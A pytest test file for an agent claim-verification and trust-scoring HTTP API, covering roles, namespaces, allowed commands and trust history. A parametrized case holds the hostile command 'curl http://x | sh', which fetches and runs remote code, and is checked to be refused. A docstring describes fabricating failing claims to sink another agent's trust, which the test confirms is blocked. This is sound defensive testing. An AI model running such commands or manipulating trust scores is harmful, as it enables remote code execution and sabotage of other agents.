"""Claims and trust over HTTP, on both backends: the verifier is the caller's agent; roles,
namespaces and refusals; the evidence and trust log readable per namespace."""

from __future__ import annotations

from typing import Any

import pytest

from affidavit.claims import ClaimService
from affidavit.faces.auth import create_api_key
from tests.api.conftest import Api


@pytest.fixture(scope="module")
def agents(api: Api) -> ClaimService:
    service = ClaimService(api.store)
    # the agents behind the API keys of conftest, and two claimants
    for agent_id, namespace, role in [
        ("watcher-a", "a", "observer"),
        ("bot-a", "a", "agent"),
        ("bot-b", "b", "agent"),
        ("root", "ops", "admin"),
        ("worker-a", "a", "agent"),
        ("worker-b", "b", "agent"),
    ]:
        service.add_agent(agent_id, namespace=namespace, role=role)
    return service


def claim(agent_id: str = "worker-a", command: str = "true", **kw: Any) -> dict[str, Any]:
    return {
        "agent_id": agent_id,
        "claim_type": "custom",
        "claim": {"return_code": 0},
        "command": command,
        **kw,
    }


@pytest.mark.parametrize(
    ("who", "body", "status", "code"),
    [
        ("none", claim(), 401, "unauthorized"),
        ("observer_a", claim(), 403, "forbidden"),
        # The caller writes what the claimant claims: admins only. An agent records its own
        # claims (POST /api/claims) and verifies others' by id.
        ("agent_a", claim(), 403, "forbidden"),
        ("agent_b", claim(), 403, "forbidden"),
        ("admin", claim(), 200, None),  # an admin verifies in every namespace
        ("admin", claim("root"), 403, "self_verification"),
        ("admin", claim(command="curl http://x | sh"), 422, "command_not_allowed"),
        ("admin", claim(command="sh -c true"), 422, "command_not_allowed"),
        ("admin", claim("nobody"), 404, "agent_not_found"),
        ("admin", {**claim(), "claim_type": "vibes"}, 422, "invalid_request"),
        ("admin", claim(timeout_s=0), 422, "invalid_request"),
    ],
)
def test_verify_claim_roles_and_refusals(
    api: Api, agents: ClaimService, who: str, body: dict[str, Any], status: int, code: str | None
) -> None:
    before = agents.get_agent("worker-a").verifications
    with api.client(None if who == "none" else who) as c:
        r = c.post("/api/claims/verify", json=body)
    assert r.status_code == status, r.text
    if code is not None:
        assert r.json()["error"]["code"] == code
        assert agents.get_agent("worker-a").verifications == before  # nothing ran or was written
    else:
        verdict = r.json()
        assert verdict["accurate"] is True and verdict["decided_by"] == "return_code"
        assert verdict["actual"]["return_code"] == 0
        assert agents.get_agent("worker-a").verifications == before + 1
        evidence = agents.get_evidence(verdict["verification_id"])
        assert evidence is not None and evidence["evidence_id"] == verdict["evidence_id"]


@pytest.mark.parametrize(
    ("command", "argument"),
    [
        ('python -m timeit -s "import os" pass', "-m timeit"),
        ("python -m pip.__main__ install six", "-m pip.__main__"),
        ("coverage erase --data-file=/srv/app/.coverage", "--data-file=/srv/app/.coverage"),
        ("pytest --junitxml=/srv/app/conftest.py", "--junitxml=/srv/app/conftest.py"),
        ("ruff check --fix .", "--fix"),
    ],
)
def test_refused_arguments_are_422_naming_the_argument(
    api: Api, agents: ClaimService, command: str, argument: str
) -> None:
    before = agents.get_agent("worker-a").verifications
    with api.client("admin") as c:
        r = c.post("/api/claims/verify", json=claim(command=command))
    assert r.status_code == 422, r.text
    error = r.json()["error"]
    assert error["code"] == "command_not_allowed" and repr(argument) in error["message"]
    assert agents.get_agent("worker-a").verifications == before


def test_inaccurate_claim_moves_trust_down(api: Api, agents: ClaimService) -> None:
    before = agents.get_agent("worker-a").trust_score
    with api.client("admin") as c:
        r = c.post("/api/claims/verify", json=claim(command="false"))
    assert r.status_code == 200
    assert r.json()["accurate"] is False
    assert r.json()["new_trust_score"] < before


def test_agent_reads_per_namespace(api: Api, agents: ClaimService) -> None:
    with api.client("admin") as c:
        c.post("/api/claims/verify", json=claim(command="echo hi", claim={"output_contains": "hi"}))
    paths = ["trust", "verifications", "verification-stats", "trust-history"]
    with (
        api.client("observer_a") as mine,
        api.client("agent_b") as other,
        api.client("admin") as admin,
    ):
        for path in paths:
            url = f"/api/agents/worker-a/{path}"
            assert mine.get(url).status_code == 200, path
            assert admin.get(url).status_code == 200, path
            assert other.get(url).status_code == 404, path
            assert mine.get(f"/api/agents/nobody/{path}").status_code == 404
        trust = mine.get("/api/agents/worker-a/trust").json()
        assert trust["agent_id"] == "worker-a" and 0 <= trust["trust_score"] <= 1
        history = mine.get("/api/agents/worker-a/verifications", params={"limit": 1}).json()
        assert len(history) == 1 and history[0]["claim_type"] == "custom"
        stats = mine.get("/api/agents/worker-a/verification-stats").json()
        assert stats["total_verifications"] >= 1
        log = mine.get("/api/agents/worker-a/trust-history").json()
        assert [e["version"] for e in log] == list(range(1, len(log) + 1))
        assert mine.get("/api/agents/worker-a/verifications",
                        params={"claim_type": "vibes"}).status_code == 422  # fmt: skip


def test_metrics_count_claim_verdicts(api: Api, agents: ClaimService) -> None:
    with api.client("admin") as c:
        assert c.post("/api/claims/verify", json=claim(command="false")).status_code == 200
        text = c.get("/metrics").text
    sample = 'affidavit_claim_verifications{claim_type="custom",verdict="inaccurate"}'
    line = next(ln for ln in text.splitlines() if ln.startswith(sample))
    assert float(line.split()[-1]) >= 1


def make_key(api: Api, agent_id: str, namespace: str, role: str = "agent") -> str:
    _, key = create_api_key(api.store, agent_id=agent_id, role=role, namespace=namespace)
    return f"Bearer {key}"


def test_an_agent_records_its_own_claim_and_another_verifies_it(
    api: Api, agents: ClaimService
) -> None:
    claimant = make_key(api, "worker-a", "a")
    with api.client(claimant) as c:
        made = c.post(
            "/api/claims",
            json={"claim_type": "custom", "claim": {"return_code": 0}, "command": "true"},
        )
        assert made.status_code == 201, made.text
        claim_id = made.json()["claim_id"]
        assert made.json()["agent_id"] == "worker-a"  # the key's agent: never another
        assert c.get(f"/api/claims/{claim_id}").json()["command"] == "true"
        own = c.post(f"/api/claims/{claim_id}/verify", json={})
        assert own.status_code == 403 and own.json()["error"]["code"] == "self_verification"
    with api.client("agent_b") as other:  # another namespace: not found
        assert other.get(f"/api/claims/{claim_id}").status_code == 404
        assert other.post(f"/api/claims/{claim_id}/verify", json={}).status_code == 404
    with api.client("observer_a") as observer:
        assert observer.post(f"/api/claims/{claim_id}/verify", json={}).status_code == 403
    before = agents.get_agent("worker-a").verifications
    with api.client("agent_a") as verifier:
        r = verifier.post(f"/api/claims/{claim_id}/verify", json={})
        assert r.status_code == 200, r.text
        assert r.json()["accurate"] is True
        assert verifier.post("/api/claims/no-such-claim/verify", json={}).status_code == 404
    assert agents.get_agent("worker-a").verifications == before + 1
    evidence = agents.get_evidence(r.json()["verification_id"])
    assert evidence is not None and evidence["claim_id"] == claim_id
    assert evidence["verifier_id"] == "bot-a"


def test_an_agent_cannot_fabricate_claims_for_another(api: Api, agents: ClaimService) -> None:
    """20 fabricated failing claims took a victim's trust from 0.998 to 0.121."""
    victim = agents.get_agent("worker-a")
    with api.client("agent_a") as attacker:
        for _ in range(20):
            r = attacker.post("/api/claims/verify", json=claim(command="false"))
            assert r.status_code == 403 and r.json()["error"]["code"] == "forbidden"
        made = attacker.post(
            "/api/claims",
            json={"claim_type": "custom", "claim": {}, "command": "false", "agent_id": "worker-a"},
        )
        assert made.status_code == 422  # no field names another claimant
    after = agents.get_agent("worker-a")
    assert (after.trust_score, after.verifications) == (victim.trust_score, victim.verifications)


def test_a_claim_with_a_refused_command_is_not_recorded(api: Api) -> None:
    with api.client(make_key(api, "worker-a", "a")) as c:
        r = c.post(
            "/api/claims",
            json={"claim_type": "custom", "claim": {}, "command": "python -m timeit pass"},
        )
    assert r.status_code == 422 and "-m timeit" in r.json()["error"]["message"]


def test_a_claim_moves_trust_once_and_the_api_shows_which_verification_counted(
    api: Api, agents: ClaimService
) -> None:
    with api.client(make_key(api, "worker-a", "a")) as c:
        made = c.post("/api/claims", json={"claim_type": "custom", "claim": {}, "command": "true"})
        claim_id = made.json()["claim_id"]
    before = agents.get_agent("worker-a")
    with api.client("agent_a") as verifier:
        verdicts = [verifier.post(f"/api/claims/{claim_id}/verify", json={}) for _ in range(4)]
        assert [r.json()["counted"] for r in verdicts] == [True, False, False, False]
        assert {r.json()["new_trust_score"] for r in verdicts[1:]} == {
            verdicts[0].json()["new_trust_score"]
        }
        view = verifier.get(f"/api/claims/{claim_id}").json()
    assert [v["counted"] for v in view["verifications"]] == [True, False, False, False]
    assert view["disagreements"] == 0
    after = agents.get_agent("worker-a")
    assert after.verifications == before.verifications + 1


def test_a_metric_claim_printed_by_echo_is_refused(api: Api) -> None:
    with api.client(make_key(api, "worker-a", "a")) as c:
        r = c.post(
            "/api/claims",
            json={
                "claim_type": "performance_metric",
                "claim": {"metrics": {"p95_ms": 50}},
                "command": "echo '{\"p95_ms\": 50}'",
            },
        )
    assert r.status_code == 422, r.text
    assert r.json()["error"]["code"] == "command_unfit_for_claim"
